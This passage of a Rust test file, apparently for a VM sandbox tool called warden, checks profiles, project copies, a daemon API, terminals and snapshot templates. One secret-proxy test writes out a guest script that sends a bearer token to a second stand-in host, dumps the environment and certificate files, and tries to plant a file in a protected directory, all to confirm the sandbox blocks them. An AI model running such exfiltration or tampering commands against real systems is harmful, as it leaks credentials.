            state.path(),
            &[
                "run",
                "--isolation",
                "vm",
                "--no-tty",
                "-P",
                name,
                "-w",
                ws.str(),
                "--",
                "true",
            ],
            None,
            &[("WARDEN_VMM", "/bin/false"), ("WARDEN_VM_ACCEL", "tcg")],
        );
        assert!(
            stderr(&o).contains("the VMM exited before its guest was ready"),
            "{name}: {}",
            stderr(&o)
        );
    }
}

#[test]
#[ignore = "boots a VM (slow under emulation): run with -- --ignored"]
fn every_shipped_profile_runs_in_a_vm_through_run() {
    let Some(_) = guest_release() else {
        return;
    };
    let state = TempDir::new("vm-profiles");
    let ws = TempDir::new("vm-profiles-ws");
    // Each boot costs half a minute on a loaded 2-core host: every shipped
    // profile boots once, through one door each. Here `run`: the plain base
    // profile, the one that logs every decision, and the debugger's;
    // `feature-dev` and `devops` boot through create/exec below,
    // `researcher` through the daemon, `desktop` in tests/suite/vm_desktop.rs;
    // every profile's acceptance is checked without a boot above.
    for name in ["base", "security", "debugger"] {
        let started = Instant::now();
        // The base profile's allowed name answers from the host's loopback
        // (nothing leaves the machine).
        let o = vm_warden(
            state.path(),
            &[
                "run",
                "--isolation",
                "vm",
                "--no-tty",
                "-P",
                name,
                "--add-host",
                "api.anthropic.com=127.0.0.1",
                "-w",
                ws.str(),
                "--",
                "sh",
                "-c",
                &profile_probe(name),
            ],
            None,
        );
        eprintln!("profile {name}: {:?}", started.elapsed());
        let out = stdout(&o);
        assert_eq!(code(&o), 7, "{name}: {out}\n{}", stderr(&o));
        check_profile_probe(name, &out);
    }
}

#[test]
#[ignore = "boots a VM (slow under emulation): run with -- --ignored"]
fn a_vm_sandbox_made_from_a_profile_over_a_project_works_on_a_reviewable_copy() {
    let Some(_) = guest_release() else {
        return;
    };
    let state = TempDir::new("vm-project");
    let project = TempDir::new("vm-project-ws");
    std::fs::write(project.path().join("README"), "original\n").unwrap();
    let o = vm_warden(
        state.path(),
        &[
            "create",
            "--isolation",
            "vm",
            "-P",
            "feature-dev",
            "--add-host",
            "api.anthropic.com=127.0.0.1",
            "-w",
            project.str(),
            "proj",
        ],
        None,
    );
    ok(&o);
    ok(&vm_warden(state.path(), &["start", "proj"], None));
    let _stop = VmStopper(state.path(), "proj");
    let o = vm_warden(
        state.path(),
        &[
            "exec",
            "proj",
            "--",
            "sh",
            "-c",
            &profile_probe("feature-dev"),
        ],
        None,
    );
    assert_eq!(code(&o), 7, "{}\n{}", stdout(&o), stderr(&o));
    check_profile_probe("feature-dev", &stdout(&o));
    let got = ok(&vm_warden(
        state.path(),
        &[
            "exec",
            "proj",
            "--",
            "sh",
            "-c",
            "cat /workspace/README; echo changed > /workspace/README; echo new > /workspace/new.txt",
        ],
        None,
    ));
    assert_eq!(got, "original\n");
    // The project itself is untouched until the changes are committed.
    assert_eq!(
        std::fs::read_to_string(project.path().join("README")).unwrap(),
        "original\n"
    );
    assert!(!project.path().join("new.txt").exists());
    let diff = stdout(&vm_warden(state.path(), &["diff", "proj"], None));
    assert!(
        diff.contains("new.txt") && diff.contains("README"),
        "{diff}"
    );
    ok(&vm_warden(state.path(), &["stop", "proj"], None));
    ok(&vm_warden(state.path(), &["commit", "proj"], None));
    assert_eq!(
        std::fs::read_to_string(project.path().join("README")).unwrap(),
        "changed\n"
    );
    assert_eq!(
        std::fs::read_to_string(project.path().join("new.txt")).unwrap(),
        "new\n"
    );
}

#[test]
#[ignore = "boots a VM (slow under emulation): run with -- --ignored"]
fn a_devops_vm_sandbox_runs_its_profile_through_create_and_exec() {
    let Some(_) = guest_release() else {
        return;
    };
    let state = TempDir::new("vm-devops");
    let ws = TempDir::new("vm-devops-ws");
    ok(&vm_warden(
        state.path(),
        &[
            "create",
            "--isolation",
            "vm",
            "-P",
            "devops",
            "--add-host",
            "api.anthropic.com=127.0.0.1",
            "-w",
            ws.str(),
            "--start",
            "ops",
        ],
        None,
    ));
    let _stop = VmStopper(state.path(), "ops");
    let o = vm_warden(
        state.path(),
        &["exec", "ops", "--", "sh", "-c", &profile_probe("devops")],
        None,
    );
    assert_eq!(code(&o), 7, "{}\n{}", stdout(&o), stderr(&o));
    check_profile_probe("devops", &stdout(&o));
    // Through exec too, it is the guest's kernel that runs it.
    let o = vm_warden(state.path(), &["exec", "ops", "--", "uname", "-r"], None);
    assert_ne!(
        stdout(&o).trim(),
        host_release(),
        "not in the guest's kernel"
    );
}

#[test]
#[ignore = "boots a VM (slow under emulation): run with -- --ignored"]
fn the_daemon_serves_a_vm_sandbox_made_from_a_shipped_profile() {
    use crate::common::daemon::{call, json, Daemon};
    let Some(_) = guest_release() else {
        return;
    };
    if !common::daemon::curl_available() {
        skip("curl is not installed");
        return;
    }
    let state = TempDir::new("vm-daemon-profile");
    let vm = vm_dir();
    let d = Daemon::start_with(state.path(), false, &[], &[("WARDEN_VM_DIR", &vm)]);
    let (status, body) = call(
        &d,
        "POST",
        "/v1/sandboxes",
        Some(
            r#"{"name":"fd","spec":{"extends":["researcher"],"isolation":"vm",
                "egress":{"hosts":{"api.anthropic.com":"127.0.0.1"}}}}"#,
        ),
        None,
    );
    assert_eq!(status, 201, "{body}");
    let probe = serde_json::json!({ "shell": profile_probe("researcher") }).to_string();
    let (status, body) = call(&d, "POST", "/v1/sandboxes/fd/exec", Some(&probe), None);
    assert_eq!(status, 200, "{body}");
    let v = json(&body);
    assert_eq!(v["exit_status"], 7, "{body}");
    check_profile_probe("researcher", v["stdout"].as_str().unwrap());
    let (status, body) = call(&d, "DELETE", "/v1/sandboxes/fd", None, None);
    assert!(status < 300, "{status} {body}");
}

#[test]
#[ignore = "boots a VM (slow under emulation): run with -- --ignored"]
fn a_vm_secret_reaches_only_its_host_and_never_the_guest() {
    use crate::common::upstream::{RawUpstream, TestCa};
    let Some(_) = guest_release() else {
        return;
    };
    let ca = TestCa::new();
    // Answers with the Authorization it received: the secret proxy must
    // scrub the real value out of the answer before the guest sees it.
    let echo_auth = |r: &crate::common::upstream::RawRequest| {
        let body = format!("auth={}\n", r.header("authorization").unwrap_or(""));
        vec![format!(
            "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
            body.len()
        )
        .into_bytes()]
    };
    let up = RawUpstream::start(&ca, &["api.secret.test"], echo_auth);
    // Another host, on a server of its own (pinned to the same loopback
    // address, so served as the secret's host).
    let other = RawUpstream::start(&ca, &["other.secret.test"], echo_auth);
    let other_port = other.port;
    let value = format!("ghp_{}", unique("vmtok").replace('-', "x"));
    let port = up.port;
    let state = TempDir::new("vm-secret");
    let ws = TempDir::new("vm-secret-ws");
    let ev = state.path().join("ev.jsonl");
    // Through the variables' bundle, through the system's own bundle (for
    // programs that read no variable), and to another host.
    let script = format!(
        r#"case "$TOKEN" in warden-secret-*) echo placeholder-ok;; esac
curl -sS --noproxy '*' -H "Authorization: Bearer $TOKEN" https://api.secret.test:{port}/by-variable; echo
env -u CURL_CA_BUNDLE -u SSL_CERT_FILE curl -sS --noproxy '*' -H "Authorization: Bearer $TOKEN" https://api.secret.test:{port}/by-system; echo
curl -sS -k --noproxy '*' -H "Authorization: Bearer $TOKEN" https://other.secret.test:{other_port}/other; echo "other-exit=$?"
env > /workspace/env.txt; cat /run/warden/* /etc/ssl/certs/ca-certificates.crt > /workspace/trust.txt
touch /run/warden/planted 2>/dev/null && echo TRUST-WRITABLE
exit 0"#
    );
    let o = vm_sh(
        state.path(),
        &[
            "--no-tty",
            "--secret",
            &format!("TOKEN@api.secret.test:{port}"),
            "--allow-domain",
            &format!("other.secret.test:{other_port}"),
            "--add-host",
            "api.secret.test=127.0.0.1",
            "--add-host",
            "other.secret.test=127.0.0.1",
            "--upstream-ca",
            &ca.pem_path(),
            "--json-events",
            ev.to_str().unwrap(),
            "-w",
            ws.str(),
        ],
        &script,
        &[("TOKEN", &value)],
    );
    let out = stdout(&o);
    assert_eq!(code(&o), 0, "{out}\n{}", stderr(&o));
    assert!(out.contains("placeholder-ok"), "{out}");
    let seen = up.requests();
    for target in ["/by-variable", "/by-system"] {
        let r = seen
            .iter()
            .find(|r| r.target == target)
            .unwrap_or_else(|| panic!("{target} never arrived: {out}\n{}", stderr(&o)));
        assert_eq!(
            r.header("authorization"),
            Some(format!("Bearer {value}").as_str()),
            "{target}"
        );
    }
    // The other host, pinned to the secret's host's address, is served
    // as that host: the placeholder sent there is blocked, so neither the
    // value nor the placeholder reaches it.
    assert!(
        other.requests().iter().all(|r| r.target != "/other"),
        "a request carrying the placeholder reached another host: {out}"
    );
    assert!(
        stderr(&o).contains("placeholder of secret TOKEN in a request to other.secret.test"),
        "{}",
        stderr(&o)
    );
    // The answers held the real value; the guest got them scrubbed.
    assert_eq!(
        out.matches("auth=Bearer warden-secret-").count(),
        2,
        "{out}"
    );
    assert!(!out.contains("TRUST-WRITABLE"), "{out}");
    for (what, text) in [
        ("stdout", out.clone()),
        ("stderr", stderr(&o)),
        (
            "the guest's environment",
            std::fs::read_to_string(ws.path().join("env.txt")).unwrap(),
        ),
        (
            "the guest's trust files",
            std::fs::read_to_string(ws.path().join("trust.txt")).unwrap(),
        ),
        ("the events", std::fs::read_to_string(&ev).unwrap()),
    ] {
        assert!(!text.contains(&value), "the real value is in {what}");
    }
    assert!(
        std::fs::read_to_string(ws.path().join("trust.txt"))
            .unwrap()
            .contains("BEGIN CERTIFICATE"),
        "the guest has no trust files"
    );
}

#[test]
#[ignore = "boots a VM (slow under emulation): run with -- --ignored"]
fn run_with_a_terminal_in_a_vm_gives_the_command_a_terminal_of_the_callers_size() {
    let Some(_) = guest_release() else {
        return;
    };
    let state = TempDir::new("vm-run-tty");
    // `warden run -t` at a real pseudo-terminal of 33 rows and 101
    // columns that the test holds the master side of: the command must
    // see a terminal of that size, get what is typed, and its status must
    // come back.
    let driver = r#"import os, pty, sys, time, select, fcntl, termios, struct
pid, fd = pty.fork()
if pid == 0:
    os.execv(sys.argv[1], [sys.argv[1], 'run', '--isolation', 'vm', '-t', '--', 'sh', '-c', 'tty; stty size; echo ready; read x; echo got-$x; exit 7'])
fcntl.ioctl(fd, termios.TIOCSWINSZ, struct.pack('HHHH', 33, 101, 0, 0))
out = b''; sent = False; end = time.time() + 300
while time.time() < end:
    r, _, _ = select.select([fd], [], [], 0.5)
    if r:
        try: d = os.read(fd, 4096)
        except OSError: break
        if not d: break
        out += d
    if not sent and b'ready' in out:
        os.write(fd, b'hello\n'); sent = True
_, st = os.waitpid(pid, 0)
print(repr(out)); print('status', os.waitstatus_to_exitcode(st))
"#;
    let o = Command::new("python3")
        .args(["-c", driver, warden_bin().to_str().unwrap()])
        .env("WARDEN_STATE_DIR", state.path().join("warden"))
        .env("WARDEN_VM_DIR", vm_dir())
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let out = stdout(&o);
    assert!(out.contains("/dev/pts/"), "{out}\n{}", stderr(&o));
    assert!(out.contains("33 101"), "{out}\n{}", stderr(&o));
    assert!(out.contains("got-hello"), "{out}\n{}", stderr(&o));
    assert!(out.contains("status 7"), "{out}\n{}", stderr(&o));
}

/// Two VM sandboxes started from one template snapshot (the first run
/// makes it when there is none): each is faster than a kernel's boot
/// would allow to be attacked on, yet neither hands its programs the
/// other's random bytes nor its hostname, and a workspace written in one
/// is the host's directory (its shares were attached after the restore).
#[test]
#[ignore]
fn vm_sandboxes_restored_from_one_template_share_neither_randomness_nor_identity() {
    if guest_release().is_none() {
        return;
    }
    let state = TempDir::new("vm-template");
    let ws = TempDir::new("vm-template-ws");
    let read = "head -c 32 /dev/urandom | od -An -tx1 | tr -d ' \\n'; echo; hostname; echo made > /workspace/f";
    let run = |name: &str| {
        let out = vm_sh(
            state.path(),
            &["--hostname", name, "-w", ws.path().to_str().unwrap()],
            read,
            &[],
        );
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8_lossy(&out.stdout).to_string()
    };
    let a = run("copy-a");
    let b = run("copy-b");
    let (ra, ha) = a.split_once('\n').unwrap();
    let (rb, hb) = b.split_once('\n').unwrap();
    assert_eq!(ra.len(), 64, "{a}");
    assert_ne!(
        ra, rb,
        "two copies of one template read the same random bytes"
    );
    assert_eq!((ha.trim(), hb.trim()), ("copy-a", "copy-b"));
    assert_eq!(
        std::fs::read_to_string(ws.path().join("f")).unwrap(),
        "made\n"
    );
    let templates = vm_dir().join("templates");
    let kept = std::fs::read_dir(&templates)
        .map(|d| {
            d.flatten()
                .filter(|e| e.file_name().to_string_lossy().ends_with(".vmstate"))
                .count()
        })
        .unwrap_or(0);
    assert!(kept >= 1, "no template in {}", templates.display());
    use std::os::unix::fs::PermissionsExt;
    let mode = std::fs::metadata(&templates).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o700, "the templates' directory is not owner-only");
}
